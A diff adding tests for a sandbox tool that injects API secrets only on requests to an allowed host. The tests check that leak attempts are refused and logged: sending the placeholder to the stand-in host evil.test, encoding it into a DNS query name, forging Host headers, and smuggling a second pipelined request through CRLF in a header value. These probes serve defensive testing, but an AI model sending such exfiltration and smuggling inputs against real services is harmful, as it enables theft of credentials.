@@ -84,3 +84,96 @@ def test_the_real_key_reaches_the_api_and_never_the_sandbox(sec, net):
     assert ca in world["files"]["/etc/ssl/certs/ca-certificates.crt"]
     st = os.stat(os.path.join(sec.ca_dir, "ca.key"))
     assert st.st_mode & 0o777 == 0o600 and os.stat(sec.ca_dir).st_mode & 0o777 == 0o700
+
+
+def misuse_lines(r):
+    return [l for l in r.err.splitlines() if "secret.misuse" in l]
+
+
+def test_the_placeholder_anywhere_else_is_refused_and_reported(sec, net):
+    m = net.mark()
+    t = secrets.token_hex(4)
+    auth = {"Authorization": "Bearer {PH}"}
+    ops = [
+        # plain HTTP to the secret's own host
+        {"op": "req", "tls": False, "sni": "api.example.test", "port": 80, "path": f"/plain-{t}", "headers": auth},
+        # TLS to another intercepted host (OTHER's), which API_KEY is not for
+        {"op": "req", "sni": "evil.test", "path": f"/other-{t}", "headers": auth},
+        # a DNS query name
+        {"op": "resolve", "name": "{PH}.evil.test"},
+        # the secret's host as SNI, another Host
+        {"op": "req", "sni": "api.example.test", "host": "evil.test", "path": f"/forged-{t}", "headers": auth},
+        # an IP literal, plain HTTP
+        {"op": "req", "tls": False, "connect": WEB2, "host": WEB2, "port": 8080, "path": f"/ip-{t}", "headers": auth},
+        # the right host, but in the query: this secret is for headers only
+        {"op": "req", "path": f"/query-{t}?key={{PH}}"},
+        # the right host, in a header's name
+        {"op": "req", "path": f"/name-{t}", "headers": {"X-{PH}": "1"}},
+        # a forged Host with no placeholder: refused too, not reported as misuse
+        {"op": "req", "sni": "api.example.test", "host": "evil.test", "path": f"/forged2-{t}"},
+        {"op": "world"},
+    ]
+    r, res = sec(ops, opts=["--secret", "OTHER=other-value-0123456789@evil.test",
+                            "--allow", "api.example.test:80", "--allow", f"{WEB2}:8080"])
+    assert r.returncode == 0, r.describe()
+    plain, other, dns, forged, ip, query, hname, forged2, world = res
+    ph = world["env"]["API_KEY"]
+    for p in (plain, other, forged, ip, query, hname, forged2):
+        assert not p["reached"], p
+    for p in (other, forged, query, hname):
+        assert p["status_line"].startswith("HTTP/1.1 403"), ([x.get("status_line") for x in res], r.err)
+        assert "refused by policy" in p["raw"], p
+    assert forged2["status_line"].startswith("HTTP/1.1 421"), forged2
+    assert not dns["resolved"], dns
+    # The far side saw none of it: no path of these probes, no placeholder, no value.
+    seen = net.seen(m)
+    assert not [x for x in seen if t in json.dumps(x)], seen
+    assert ph not in json.dumps(seen) and VALUE not in json.dumps(seen)
+    reasons = misuse_lines(r)
+    assert len(reasons) >= 7, r.err  # the resolver may ask more than once
+    joined = "\n".join(reasons)
+    for want in ("not intercepted", "to a host it is not for", "in a DNS query name",
+                 "with a Host other than the TLS name", "to an address, not a name",
+                 "in a part of the request it is not for"):
+        assert want in joined, (want, joined)
+    assert VALUE not in r.err and VALUE not in r.out and ph not in r.err
+
+
+def test_pipelined_requests_are_each_checked(sec, net):
+    m = net.mark()
+    t = secrets.token_hex(4)
+    ph_req = (f"GET /pipe-a-{t} HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
+              f"GET /pipe-b-{t} HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {{PH}}\r\n\r\n")
+    ops = [{"op": "req", "path": f"/pipe-a-{t}", "method": "GET",
+            "headers": {"X-Pad": "1\r\n\r\n" + ph_req.split("\r\n\r\n", 1)[1].rstrip("\r\n")}}]
+    r, res = sec(ops)
+    assert "HTTP/1.1 403 Forbidden" in res[0]["raw"], res
+    assert not [x for x in net.seen(m) if f"pipe-b-{t}" in json.dumps(x)]
+    assert "with a Host other than the TLS name" in "\n".join(misuse_lines(r)), r.err
+
+
+def test_intercepted_connections_offer_only_http11(sec, net):
+    path = f"/alpn-{secrets.token_hex(4)}"
+    _, res = sec([{"op": "req", "path": path, "alpn": ["h2", "http/1.1"]},
+                  {"op": "req", "path": path, "alpn": ["h2"]}])
+    assert res[0]["reached"] and res[0]["alpn"] == "http/1.1", res
+    assert res[1]["reached"] and res[1]["alpn"] is None, res
+
+
+def test_the_value_can_come_from_cordon_runs_environment_and_argv_hides_it(sec, net):
+    m = net.mark()
+    path = f"/v1/env-{secrets.token_hex(4)}"
+    r, res = sec([{"op": "req", "path": path, "headers": {"X-Api-Key": "{PH}"}}],
+                 secret="API_KEY@api.example.test", env_value=True)
+    assert res[0]["reached"], (res, r.err)
+    seen = api_log(net, m, path)
+    assert len(seen) == 1 and seen[0]["x_api_key"] == VALUE, seen
+
+
+def test_usage_errors(net):
+    for spec, want in (("API_KEY=x", "expected NAME=VALUE@HOST"), ("1X=v@a.test", "expected"),
+                       ("K=v@10.0.0.1", "DNS names"), ("NOPE_UNSET_VAR@a.test", "no value")):
+        r = net.cordon(["run", "--secret", spec, "--", "/bin/true"])
+        assert r.returncode == 2 and want in r.err, r.describe()
+    r = net.cordon(["run", "--net", "none", "--secret", "K=v@a.test", "--", "/bin/true"])
+    assert r.returncode == 2 and "needs a network" in r.err, r.describe()
